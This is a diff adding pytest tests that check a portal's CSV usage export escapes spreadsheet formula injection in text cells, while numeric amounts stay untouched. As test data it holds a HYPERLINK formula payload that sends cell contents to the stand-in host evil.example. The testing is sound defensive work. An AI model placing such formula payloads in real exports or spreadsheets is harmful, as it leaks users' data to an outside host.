@@ -132,6 +132,31 @@ def test_usage_csv_streams_every_row_with_exact_amounts(client, member_org, monk
     assert [row["credits"] for row in rows] == expected
 
 
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_usage_csv_defuses_formulas_in_text_cells(client, member_org, prefix):
+    """A spreadsheet runs a cell that starts with = + - @ (tab and CR too): quote it as text."""
+    service.set_department_limit(member_org.id, "Ops", None)
+    payload = f'{prefix}HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    spend(member_org, "generate_voice", "2", user_ref=payload, description=payload)
+    spend(member_org, "generate_voice", "1", user_ref="plain", department="Ops")
+    rows = list(csv.DictReader(io.StringIO(client.get("/usage.csv").get_data(as_text=True))))
+    assert (rows[1]["user"], rows[1]["description"]) == ("'" + payload, "'" + payload)
+    # Untouched: text that is safe already, and the amounts (numbers are never escaped).
+    assert (rows[0]["user"], rows[0]["department"], rows[0]["feature_key"]) == (
+        "plain",
+        "Ops",
+        "generate_voice",
+    )
+    assert [(row["quantity"], row["credits"]) for row in rows] == [("1", "0.5"), ("2", "1")]
+
+
+def test_csv_cells_escape_text_only():
+    from portal.dashboard.export import defused
+
+    assert defused("-5") == "'-5"  # as *text* it could still be the start of a formula
+    assert defused("a=b") == "a=b" and defused("") == ""
+
+
 def test_transactions_show_every_kind_with_balance_after(client, member_org):
     deduction = spend(member_org, "seedream_text_to_image")
     service.refund(member_org.organization, deduction.deduction_id, credits(2), "partial")
